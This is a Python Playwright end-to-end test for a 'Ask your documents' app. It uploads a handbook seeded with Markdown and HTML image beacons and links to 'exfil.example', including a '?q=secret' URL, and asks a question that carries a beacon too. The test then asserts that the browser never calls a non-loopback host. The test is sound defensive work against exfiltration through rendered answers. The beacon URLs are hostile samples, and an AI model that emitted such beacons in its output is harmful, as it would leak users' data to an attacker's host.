"""No request leaves loopback, whatever the documents say: a document full of Markdown image
beacons, raw HTML images and links to a foreign host is uploaded, a question that carries a
beacon too is asked so that they are quoted (answer, passages, headings, the review page's
question), and Chromium's every request is intercepted: not one may go to a non-loopback host,
and no foreign link or image may be in the page. The favicon and fonts are local too.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Page, Request, Route, expect

from tests.e2e.support import FIRST_VIEW_TIMEOUT_MS, AppServer, open_page, settle
from tests.e2e.test_browser_flow import ask, expander, upload

HOST = "exfil.example"
DOCUMENT_NAME = "beacons.md"
DOCUMENT = f"""# Handbook ![t](https://{HOST}/title.png)

## Leave ![h](https://{HOST}/heading.png)

New employees receive 25 days of paid annual leave ![a](https://{HOST}/answer.png?q=secret) \
as listed on [the portal](https://{HOST}/portal), <https://{HOST}/angle> and www.{HOST}/leave \
<img src="https://{HOST}/html.png">.

## Carry over

Unused leave can be carried over until March ![b](https://{HOST}/body.png).
"""
QUESTION = f"How many days of paid annual leave do new employees receive ![q](https://{HOST}/q.png)"
LOOPBACK = {"127.0.0.1", "localhost", "::1", "[::1]"}


def foreign(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme not in ("data", "blob", "about") and parts.hostname not in LOOPBACK


def assert_nothing_foreign_in(page: Page) -> None:
    """No image, link, stylesheet, script or icon in the page points off loopback."""
    urls = page.evaluate(
        """() => [...document.querySelectorAll('[src], [href], [srcset]')]
            .map((e) => e.getAttribute('src') || e.getAttribute('href') || e.srcset)"""
    )
    absolute = [url for url in urls if url and "://" in url]
    assert [url for url in absolute if foreign(url)] == []
    assert HOST in page.locator("main").inner_text().replace("\u2060", ""), "shown as text"


def test_hostile_documents_never_make_the_browser_call_out(
    app_server: AppServer, browser_page: Page, tmp_path: Path
) -> None:
    page = browser_page
    requested: list[str] = []

    def intercept(route: Route, request: Request) -> None:
        if foreign(request.url):
            requested.append(request.url)
            route.abort()
        else:
            route.continue_()

    page.context.route("**/*", intercept)
    page.goto(app_server.url)
    expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(
        timeout=FIRST_VIEW_TIMEOUT_MS
    )
    settle(page)
    favicon = page.locator("link[rel~='icon']").first.get_attribute("href") or ""
    assert favicon and not foreign(page.url + favicon if "://" not in favicon else favicon)

    open_page(page, "Documents", "Documents")
    document = tmp_path / DOCUMENT_NAME
    document.write_text(DOCUMENT)
    upload(page, document)
    expect(page.get_by_text(f"{DOCUMENT_NAME}: indexed")).to_be_visible()

    open_page(page, "Chat", "Ask your documents")
    answer = ask(page, QUESTION)
    expect(answer).to_contain_text("25 days of paid annual leave ![a](")
    for summary in answer.locator("summary").all():
        summary.click()  # every passage open, its quote on the page
    source = expander(answer, f"[1] {DOCUMENT_NAME}")
    expect(source.get_by_test_id("stExpanderDetails")).to_contain_text("![a](")
    settle(page)
    assert_nothing_foreign_in(page)

    open_page(page, "Review", "Review answers")
    # The question heads the review (a word joiner, invisible, sits inside its URL).
    heading = page.get_by_role("heading").filter(has_text="do new employees receive ![q](")
    expect(heading).to_be_visible()
    assert_nothing_foreign_in(page)

    assert requested == []
